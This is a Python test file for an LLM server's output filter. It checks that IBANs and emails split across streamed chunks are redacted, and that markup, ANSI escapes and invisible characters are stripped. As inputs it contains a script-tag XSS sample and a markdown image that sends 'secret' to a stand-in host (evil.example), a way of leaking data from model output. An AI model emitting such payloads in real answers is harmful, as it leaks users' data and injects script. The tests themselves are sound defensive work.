"""Output redaction and sanitization: personal data split across stream chunks is still caught, in the
engine-independent filter and through a real server whose engine plays a scripted answer."""

from __future__ import annotations

import json
import logging
import queue

import openai
import pytest
import torch

from afina.service.app import ServeSettings, create_app
from afina.serving.engine import Delta, Engine, Finished
from afina.serving.loading import ModelSource, load_served_models
from afina.serving.output_filter import OutputFilter, sanitize_text
from tests.service.test_serving_api import MESSAGES, Server, metric

IBAN, EMAIL = "ES91 2100 0418 4502 0005 1332", "ana.garcia@example.es"
ANSWER = (f"Claro. Transfiere el importe a la cuenta {IBAN} y escribe a {EMAIL} con el justificante; "
          "te respondemos en un día laborable. <script>alert(1)</script>\x1b[31m¡Gracias!\x1b[0m")
CHUNKS = ["Claro. Transfiere el importe a la cuenta ES91 21", "00 0418 4502 00", "05 1332 y escribe a ana.gar",
          "cia@exam", "ple.es con el justificante; te respondemos en un día laborable. <scr", "ipt>alert(1)</scr",
          "ipt>\x1b[3", "1m¡Gracias!\x1b[0m"]


def filtered(chunks: list[str], **options) -> tuple[list[str], dict]:
    cleaner = OutputFilter(**options)
    pieces = [cleaner.push(chunk) for chunk in chunks] + [cleaner.flush()]
    return pieces, cleaner.redactions


def test_values_split_anywhere_across_chunks_are_redacted_as_in_the_whole_text():
    whole, counts = filtered([ANSWER], redact=True, sanitize=False)
    assert IBAN not in "".join(whole) and EMAIL not in "".join(whole)
    assert "<IBAN_1>" in "".join(whole) and "<EMAIL_1>" in "".join(whole) and counts == {"IBAN": 1, "EMAIL": 1}
    for size in (1, 2, 3, 7):
        pieces, split_counts = filtered([ANSWER[i:i + size] for i in range(0, len(ANSWER), size)], redact=True,
                                        sanitize=False)
        assert "".join(pieces) == "".join(whole) and split_counts == counts
        let_out = ""
        for piece in pieces:  # at no point has any part of a value gone out
            let_out += piece
            assert not any(part in let_out for part in ("ES91", "0005 1332", "ana.garcia", "@example"))


def test_sanitizing_removes_markup_escapes_and_invisible_characters():
    text = "Hola <b>mundo</b> ![x](https://evil.example/?q=secret)\u202eabc\u200b\x07 fin\n\tok <!-- nota -->"
    assert sanitize_text(text) == "Hola mundo abc fin\n\tok "
    pieces, _ = filtered(CHUNKS, redact=False, sanitize=True)
    assert "".join(pieces) == sanitize_text(ANSWER) and "script" not in "".join(pieces)


class ScriptedEngine(Engine):
    """An engine that answers every sequence with CHUNKS, one Delta each (no model runs)."""

    def _loop(self) -> None:
        while not self._stop.is_set():
            try:
                request = self.pending.get(timeout=0.05)
            except queue.Empty:
                continue
            for index in range(request.params.n):
                for chunk in CHUNKS:
                    request.deliver(Delta(index, chunk))
                request.deliver(Finished(index, "stop", len(CHUNKS)))


@pytest.fixture(scope="module")
def redacting_server(tiny_model_dir):
    served = load_served_models([ModelSource("base", str(tiny_model_dir))], device=torch.device("cpu"))
    settings = ServeSettings(redact_output=True, sanitize_output=True)
    with Server(create_app(ScriptedEngine(served), settings)) as running:
        running.wait_ready()
        yield running


def test_the_server_redacts_streams_and_whole_answers_and_counts_it(redacting_server, caplog):
    client = openai.OpenAI(base_url=f"{redacting_server.url}/v1", api_key="unused", max_retries=0, timeout=60)
    with caplog.at_level(logging.INFO, logger="afina.requests"):
        whole = client.chat.completions.create(model="base", messages=MESSAGES).choices[0].message.content
        chunks = [c.choices[0].delta.content or "" for c in client.chat.completions.create(
            model="base", messages=MESSAGES, stream=True) if c.choices]
    assert whole == "".join(chunks) == sanitize_text(ANSWER).replace(IBAN, "<IBAN_1>").replace(EMAIL, "<EMAIL_1>")
    sent = ""
    for chunk in chunks:
        sent += chunk
        assert not any(part in sent for part in ("ES91", "1332", "ana.gar", "example.es", "<scr", "\x1b"))
    assert metric(redacting_server.url, 'afina_redactions_total{type="IBAN"}') >= 2
    assert metric(redacting_server.url, 'afina_redactions_total{type="EMAIL"}') >= 2
    logged = [json.loads(r.getMessage()) for r in caplog.records if r.name == "afina.requests"]
    assert [line["redactions"] for line in logged] == [{"IBAN": 1, "EMAIL": 1}] * 2
    assert all(line["who"].startswith("ip:127.0.0.1") and line["status"] == 200 for line in logged)
    assert not any(EMAIL in r.getMessage() or "printer" in r.getMessage() for r in caplog.records)


def test_a_redacting_server_refuses_logprobs(redacting_server):
    client = openai.OpenAI(base_url=f"{redacting_server.url}/v1", api_key="unused", max_retries=0, timeout=60)
    with pytest.raises(openai.BadRequestError) as caught:
        client.chat.completions.create(model="base", messages=MESSAGES, logprobs=True)
    assert caught.value.body["param"] == "logprobs"


def test_n_choices_are_redacted_each(redacting_server):
    client = openai.OpenAI(base_url=f"{redacting_server.url}/v1", api_key="unused", max_retries=0, timeout=60)
    texts: dict[int, str] = {0: "", 1: ""}
    for chunk in client.chat.completions.create(model="base", messages=MESSAGES, n=2, stream=True):
        for choice in chunk.choices:
            texts[choice.index] += choice.delta.content or ""
    assert texts[0] == texts[1] and "<IBAN_1>" in texts[0] and IBAN not in texts[0]
